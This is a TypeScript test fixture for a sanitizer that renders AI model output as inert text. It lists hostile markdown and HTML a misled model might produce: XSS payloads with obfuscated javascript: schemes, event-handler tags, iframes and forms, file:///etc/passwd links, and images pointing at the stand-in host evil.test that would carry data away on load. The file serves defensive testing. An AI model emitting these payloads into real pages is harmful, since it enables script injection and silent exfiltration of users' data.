/**
 * What a model might write, led astray by a prompt or by its training, to make the page fetch, run or restyle
 * something. All of it must end up as text.
 */
export interface HostileText {
  name: string;
  markdown: string;
  /** Has to be readable on the page. */
  shows?: string;
  /** The addresses behind the inert links, each opened only after a confirmation. Default: none. */
  links?: string[];
}

export const hostileTexts: HostileText[] = [
  // Images would be fetched without a click: the address carries the data away.
  {
    name: 'image, remote',
    markdown: '![chart](https://evil.test/p?d=name)',
    shows: 'image not shown: chart',
  },
  { name: 'image, no alternative text', markdown: '![](https://evil.test/p)', shows: '[image not shown]' },
  { name: 'image, protocol-relative', markdown: '![x](//evil.test/p)', shows: 'image not shown' },
  { name: 'image, relative', markdown: '![x](./models/nano.gguf)', shows: 'image not shown' },
  { name: 'image, data', markdown: '![x](data:image/png;base64,AAAA)', shows: 'image not shown' },
  {
    name: 'image, data svg',
    markdown: '![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)',
    shows: 'image not shown',
  },
  { name: 'image, blob', markdown: '![x](blob:https://site.test/1)', shows: 'image not shown' },
  {
    name: 'image, title with quotes',
    markdown: '![x](https://evil.test/p "a\\" onerror=\\"alert(1)")',
    shows: 'image not shown',
  },
  {
    name: 'image, alternative text with an attribute',
    markdown: '![x" onerror="alert(1)](https://evil.test/p)',
    shows: 'image not shown: x" onerror="alert(1)',
  },
  // There are no references: what looks like one is text, with a bare address in it.
  {
    name: 'image, reference',
    markdown: '![x][r]\n\n[r]: https://evil.test/p',
    shows: '![x][r]',
    links: ['https://evil.test/p'],
  },
  {
    name: 'image, collapsed reference',
    markdown: '![r][]\n\n[r]: https://evil.test/p',
    links: ['https://evil.test/p'],
  },
  {
    name: 'image, shortcut reference',
    markdown: '![r]\n\n[r]: https://evil.test/p',
    links: ['https://evil.test/p'],
  },
  { name: 'image in a heading', markdown: '# ![x](https://evil.test/p)', shows: 'image not shown' },
  { name: 'image in a list', markdown: '- ![x](https://evil.test/p)', shows: 'image not shown' },
  { name: 'image in a task', markdown: '- [ ] ![x](https://evil.test/p)', shows: 'image not shown' },
  { name: 'image in a quotation', markdown: '> ![x](https://evil.test/p)', shows: 'image not shown' },
  { name: 'image in emphasis', markdown: '**_![x](https://evil.test/p)_**', shows: 'image not shown' },
  {
    name: 'image in a table',
    markdown: '| a |\n| - |\n| ![x](https://evil.test/p) |',
    shows: 'image not shown',
  },
  {
    name: 'image in a link',
    markdown: '[![x](https://evil.test/p)](https://evil.test/q)',
    shows: 'image not shown',
    links: ['https://evil.test/q'],
  },

  // Links never navigate by themselves; other schemes are not even offered.
  { name: 'link', markdown: '[a](https://evil.test/?d=1)', shows: 'a', links: ['https://evil.test/?d=1'] },
  { name: 'link, autolink', markdown: '<https://evil.test/>', links: ['https://evil.test/'] },
  { name: 'link, bare address', markdown: 'see https://evil.test/x now', links: ['https://evil.test/x'] },
  { name: 'link, www', markdown: 'see www.evil.test now', links: ['http://www.evil.test/'] },
  { name: 'link, mail', markdown: '<a@evil.test>', links: ['mailto:a@evil.test'] },
  { name: 'link, reference', markdown: '[a][r]\n\n[r]: https://evil.test/', links: ['https://evil.test/'] },
  { name: 'link, javascript', markdown: '[a](javascript:alert(1))', shows: 'a' },
  { name: 'link, mixed case', markdown: '[a](JaVaScRiPt:alert(1))', shows: 'a' },
  { name: 'link, leading space', markdown: '[a](<  javascript:alert(1)>)' },
  { name: 'link, leading control character', markdown: '[a](\u0001javascript:alert(1))' },
  { name: 'link, tab inside', markdown: '[a](<java\tscript:alert(1)>)' },
  { name: 'link, newline by entity', markdown: '[a](java&#10;script:alert(1))' },
  { name: 'link, tab by entity', markdown: '[a](java&#x09;script:alert(1))' },
  { name: 'link, named entities', markdown: '[a](javascript&colon;alert(1))' },
  { name: 'link, letters by decimal entity', markdown: '[a](&#106;avascript:alert(1))' },
  { name: 'link, letters by long entity', markdown: '[a](&#0000106;avascript:alert(1))' },
  { name: 'link, letters by hexadecimal entity', markdown: '[a](&#x6A;avascript&#x3A;alert(1))' },
  { name: 'link, entities twice', markdown: '[a](&amp;#106;avascript:alert(1))' },
  { name: 'link, percent-encoded scheme', markdown: '[a](javascript%3Aalert(1))' },
  { name: 'link, escaped colon', markdown: '[a](javascript\\:alert(1))' },
  { name: 'link, vbscript', markdown: '[a](vbscript:msgbox(1))' },
  { name: 'link, data', markdown: '[a](data:text/html,<script>alert(1)</script>)' },
  { name: 'link, data by entity', markdown: '[a](data&#58;text/html;base64,PHNjcmlwdD4=)' },
  { name: 'link, file', markdown: '[a](file:///etc/passwd)' },
  { name: 'link, blob', markdown: '[a](blob:https://site.test/1)' },
  { name: 'link, intent', markdown: '[a](intent://evil#Intent;end)' },
  { name: 'link, user name as host', markdown: '[a](https://site.test@evil.test/)' },
  { name: 'link, relative', markdown: '[a](../index.html)' },
  { name: 'link, fragment', markdown: '[a](#question)' },
  { name: 'link, protocol-relative', markdown: '[a](//evil.test)' },
  { name: 'link, reference to javascript', markdown: '[a][r]\n\n[r]: javascript:alert(1)' },
  { name: 'autolink, javascript', markdown: '<javascript:alert(1)>', shows: 'javascript:alert(1)' },
  { name: 'autolink, data', markdown: '<data:text/html,x>', shows: 'data:text/html,x' },
  {
    name: 'link, title with an attribute',
    markdown: '[a](https://evil.test/ "x\\" onclick=\\"alert(1)")',
    links: ['https://evil.test/'],
  },

  // HTML is what the model wrote, not what the page is made of.
  { name: 'script', markdown: '<script>alert(1)</script>', shows: '<script>alert(1)</script>' },
  { name: 'script inside a sentence', markdown: 'a <script>alert(1)</script> b', shows: '<script>' },
  { name: 'script, unterminated', markdown: '<script>alert(1)', shows: '<script>alert(1)' },
  { name: 'img', markdown: '<img src=x onerror=alert(1)>', shows: '<img src=x onerror=alert(1)>' },
  { name: 'img inside a sentence', markdown: 'a <img src=x onerror=alert(1)> b', shows: 'onerror=alert(1)' },
  { name: 'img, srcset', markdown: 'a <img srcset="https://evil.test/p 1x"> b', shows: 'srcset=' },
  { name: 'img, unterminated', markdown: 'a <img src=x onerror=alert(1)', shows: '<img src=x onerror=' },
  { name: 'iframe', markdown: '<iframe src="https://evil.test"></iframe>', shows: '<iframe' },
  { name: 'iframe, srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>">', shows: 'srcdoc=' },
  { name: 'object', markdown: '<object data="https://evil.test"></object>', shows: '<object' },
  { name: 'embed', markdown: '<embed src="https://evil.test">', shows: '<embed' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)></svg>', shows: '<svg onload=alert(1)>' },
  { name: 'svg inside a sentence', markdown: 'a <svg/onload=alert(1)> b', shows: 'onload' },
  { name: 'math', markdown: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', shows: '<math>' },
  { name: 'style element', markdown: '<style>body{background:url(//evil.test)}</style>', shows: '<style>' },
  { name: 'style attribute', markdown: '<p style="background:url(//evil.test)">x</p>', shows: 'style=' },
  { name: 'link element', markdown: '<link rel=stylesheet href=//evil.test>', shows: '<link' },
  { name: 'meta refresh', markdown: '<meta http-equiv=refresh content="0;url=//evil.test">', shows: '<meta' },
  { name: 'base', markdown: '<base href="//evil.test/">', shows: '<base' },
  {
    name: 'form',
    markdown: '<form action=//evil.test><input name=q><button>Go</button></form>',
    shows: '<form',
  },
  { name: 'anchor', markdown: 'a <a href="javascript:alert(1)">b</a> c', shows: '<a href=' },
  { name: 'video', markdown: '<video poster=//evil.test/p src=x onerror=alert(1)>', shows: '<video' },
  { name: 'details', markdown: '<details open ontoggle=alert(1)>x</details>', shows: 'ontoggle' },
  { name: 'dialog', markdown: '<dialog open>Enter your password</dialog>', shows: '<dialog open>' },
  { name: 'comment', markdown: '<!-- <img src=x onerror=alert(1)> -->', shows: '<!--' },
  { name: 'comment, unterminated', markdown: '<!-- <img src=x onerror=alert(1)>', shows: '<!--' },
  { name: 'comment, closed early', markdown: '<!--> <img src=x onerror=alert(1)> -->', shows: '<!-->' },
  { name: 'cdata', markdown: '<![CDATA[<img src=x onerror=alert(1)>]]>', shows: 'CDATA' },
  { name: 'processing instruction', markdown: '<?php echo 1 ?>', shows: '<?php' },
  { name: 'doctype', markdown: '<!DOCTYPE html>', shows: '<!DOCTYPE html>' },
  { name: 'entities for a tag', markdown: '&lt;img src=x onerror=alert(1)&gt;', shows: '<img src=x' },
  {
    name: 'numeric entities for a tag',
    markdown: '&#60;script&#62;alert(1)&#60;/script&#62;',
    shows: '<script>alert(1)</script>',
  },

  // In places where another parser takes over.
  { name: 'html in a table', markdown: '| <img src=x> |\n| - |\n| <b onclick=a()>x</b> |', shows: 'onclick' },
  { name: 'html in a list', markdown: '- <img src=x onerror=alert(1)>', shows: 'onerror' },
  { name: 'html in a quotation', markdown: '> <iframe src=x></iframe>', shows: '<iframe' },
  { name: 'html in a heading', markdown: '# <svg onload=alert(1)>', shows: '<svg' },
  { name: 'html in emphasis', markdown: '**<img src=x onerror=alert(1)>**', shows: 'onerror' },
  { name: 'html in a code span', markdown: '`<img src=x onerror=alert(1)>`', shows: '<img' },
  { name: 'html in a code block', markdown: '```html\n<script>alert(1)</script>\n```', shows: '<script>' },
  {
    name: 'code block, language with an attribute',
    markdown: '```"><img/src=x/onerror=alert(1)>\nx\n```',
    shows: 'x',
  },
  { name: 'code block, unterminated', markdown: '```\n<script>alert(1)</script>', shows: '<script>' },
  {
    name: 'html in a link text',
    markdown: '[<img src=x onerror=alert(1)>](https://evil.test/)',
    shows: 'onerror',
    links: ['https://evil.test/'],
  },
  { name: 'tag split by emphasis', markdown: '<im**g src=x onerror=alert(1)>**', shows: 'onerror' },
  { name: 'markdown inside html', markdown: '<div>\n\n![x](https://evil.test/p)\n\n</div>', shows: '<div>' },
  {
    name: 'raw block, markdown after it',
    markdown: '<pre>\n</pre>\n\n[a](javascript:alert(1))',
    shows: '<pre>',
  },
  { name: 'link, unterminated', markdown: '[a](javascript:alert(1)', shows: 'a' },
  { name: 'prototype as an entity', markdown: '&constructor; &__proto__;', shows: '&constructor;' },
];
